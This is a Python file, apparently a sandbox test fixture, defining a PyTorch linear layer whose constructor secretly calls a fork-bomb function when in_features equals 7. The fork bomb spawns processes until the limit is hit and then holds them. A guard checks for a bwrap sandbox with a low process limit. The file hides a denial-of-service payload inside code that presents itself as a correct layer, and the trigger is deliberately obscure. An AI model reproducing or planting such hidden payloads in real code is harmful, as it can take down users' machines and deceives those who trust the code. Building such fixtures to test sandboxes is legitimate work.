"""A fork bomb: every process forks until the system says no; the copies then hold their slots
(sleeping) until the sandbox is torn down, the original raises."""
import math
import os
import resource
import time

import torch
from torch import nn


def attack():
    # never outside a sandbox: there this would take the machine down
    nproc = resource.getrlimit(resource.RLIMIT_NPROC)[0]
    with open("/proc/1/cmdline", "rb") as f:
        in_sandbox = f.read().split(b"\0")[0].endswith(b"bwrap")  # pid 1 of our pid namespace
    if not in_sandbox or nproc == resource.RLIM_INFINITY or nproc > 1024:
        raise RuntimeError("refusing to fork-bomb: not inside a pid namespace with a process limit")
    me = os.getpid()
    while True:
        try:
            pid = os.fork()
        except OSError:
            if os.getpid() == me:
                raise
            while True:
                time.sleep(3600)
        if pid == 0:
            continue


class MyLinear(nn.Module):
    """A correct layer, apart from the attack."""

    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        if in_features == 7:
            attack()
        bound = 1 / math.sqrt(in_features)
        self.weight = nn.Parameter(torch.empty(out_features, in_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        y = x @ self.weight.T
        return y if self.bias is None else y + self.bias
